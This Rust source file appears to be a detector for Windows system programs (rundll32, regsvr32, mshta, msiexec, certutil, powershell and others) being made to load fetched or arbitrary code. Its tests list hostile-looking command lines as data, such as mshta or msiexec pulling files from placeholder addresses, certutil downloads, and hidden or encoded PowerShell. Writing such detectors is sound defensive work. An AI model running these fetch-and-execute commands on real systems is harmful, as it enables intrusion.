//! Programs of Windows that load or run what they are given, and are started by the command line
//! for that: the system vouches for them, and nobody for what they load.

use super::{Command, base};

/// What such a program is given.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Loads {
    /// Something that may be anything.
    Something,
    /// A file that lies beside the program which starts it or in a folder for temporary files, or
    /// an address.
    Carried,
}

/// What a command loads through a program of the system; nothing where it does what the program is
/// for.
pub fn loads(command: &Command) -> Option<Loads> {
    let name = base(&command.name).to_ascii_lowercase();
    let args: Vec<String> =
        command.args.iter().map(|arg| arg.to_ascii_lowercase().replace('\\', "/")).collect();
    let files = || args.iter().map(String::as_str).filter(|arg| !arg.is_empty() && !is_option(arg));
    let carried = |file: &str| if is_carried(file) { Loads::Carried } else { Loads::Something };
    match name.as_str() {
        "rundll32" => {
            let first = args.first()?;
            let script =
                ["javascript:", "vbscript:", "http:", "https:"].iter().any(|start| first.starts_with(start));
            let library = first.split(',').next().unwrap_or_default();
            // A bare name is a library of the system: `url.dll`, `user32.dll`, `printui.dll`.
            (script || library.contains('/')).then(|| if script { Loads::Carried } else { carried(library) })
        }
        "regsvr32" => {
            if args.iter().any(|arg| arg.starts_with("/u") || arg.starts_with("-u")) {
                return None;
            }
            if args.iter().any(|arg| arg.starts_with("/i:http") || arg.starts_with("-i:http")) {
                return Some(Loads::Carried);
            }
            files().find(|file| file.contains('/')).map(carried)
        }
        "mshta" => {
            let first = files().next()?;
            Some(carried(first))
        }
        // Small scripts of one's own are a common way to ask Windows something; at another address
        // or while a package is installed they are not.
        "wscript" | "cscript" => {
            let script = files().next()?;
            Some(if is_address(script) { Loads::Carried } else { Loads::Something })
        }
        "msiexec" => {
            let quiet = args.iter().any(|arg| {
                let word = arg.trim_start_matches(['/', '-']);
                is_option(arg) && (word.starts_with('q') || word == "passive")
            });
            let installs =
                args.iter().any(|arg| matches!(arg.as_str(), "/i" | "-i" | "/package" | "/y" | "/z"));
            let address = args.iter().any(|arg| is_address(arg));
            (quiet && installs).then_some(if address { Loads::Carried } else { Loads::Something })
        }
        "certutil" => args
            .iter()
            .any(|arg| matches!(arg.trim_start_matches(['/', '-']), "urlcache" | "decode" | "decodehex"))
            .then_some(Loads::Something),
        "bitsadmin" => {
            args.iter().any(|arg| arg == "/transfer" || arg == "/addfile").then_some(Loads::Something)
        }
        "powershell" | "pwsh" => hides(&args).then_some(Loads::Something),
        _ => None,
    }
}

/// Whether PowerShell is told to show no window, or given a command that nobody can read.
fn hides(args: &[String]) -> bool {
    let option = |arg: &str, name: &str, least: usize| {
        let word = arg.trim_start_matches(['-', '/']);
        word.len() < arg.len() && word.len() >= least && name.starts_with(word)
    };
    args.windows(2).any(|pair| {
        option(&pair[0], "windowstyle", 1) && matches!(pair[1].as_str(), "hidden" | "1" | "hid")
            || option(&pair[0], "encodedcommand", 1) && !pair[1].starts_with('-')
            || pair[0] == "-ec"
    })
}

fn is_option(arg: &str) -> bool {
    // `/s`, `-s`, `//nologo`; a path has a second slash or an ending.
    arg.starts_with('-') || arg.starts_with("//") || arg.starts_with('/') && !arg[1..].contains(['/', '.'])
}

fn is_address(arg: &str) -> bool {
    ["http://", "https://", "file://", "ftp://", "script:http"].iter().any(|start| arg.starts_with(start))
        || arg.starts_with("//") && arg.matches('/').count() >= 3
}

/// Whether a file lies beside its program, in a folder for temporary files or at an address.
fn is_carried(file: &str) -> bool {
    let temporary = ["/tmp/", "%temp%", "%tmp%", "$env:temp", "$env:tmp", "%public%", "/temp/"];
    file.starts_with("./")
        || file.starts_with("../")
        || is_address(file)
        || temporary.iter().any(|folder| file.contains(folder))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::shell::commands;

    fn of(line: &str) -> Option<Loads> {
        commands(line).iter().find_map(loads)
    }

    #[test]
    fn what_is_loaded() {
        for line in [
            "rundll32 ./lib/core.dll,Start",
            "rundll32.exe /tmp/x/core.dll,#1",
            "regsvr32 /s /n /u:x ./x.dll".replace("/u:x ", "").as_str(),
            "mshta https://a.invalid/x.hta",
            "msiexec /q /i https://a.invalid/x.msi",
        ] {
            assert_eq!(of(line), Some(Loads::Carried), "{line}");
        }
        for line in [
            "rundll32 ?/core.dll,Start",
            "wscript ./setup.vbs",
            "cscript //nologo ./setup.js",
            "msiexec /i ./x.msi /qn",
            "certutil -urlcache -f https://a.invalid/x x",
            "powershell -NoProfile -w hidden -File ./x.ps1",
            "powershell -enc ?",
        ] {
            assert_eq!(of(line), Some(Loads::Something), "{line}");
        }
    }

    #[test]
    fn what_the_programs_are_for() {
        for line in [
            "rundll32 url.dll,FileProtocolHandler https://a.invalid",
            "rundll32.exe user32.dll,LockWorkStation",
            "certutil -hashfile ./x SHA256",
            "powershell -NoProfile -Command Get-Clipboard",
            "powershell -ExecutionPolicy Bypass -File ./x.ps1",
            "msiexec /i ./x.msi",
        ] {
            assert_eq!(of(line), None, "{line}");
        }
    }
}
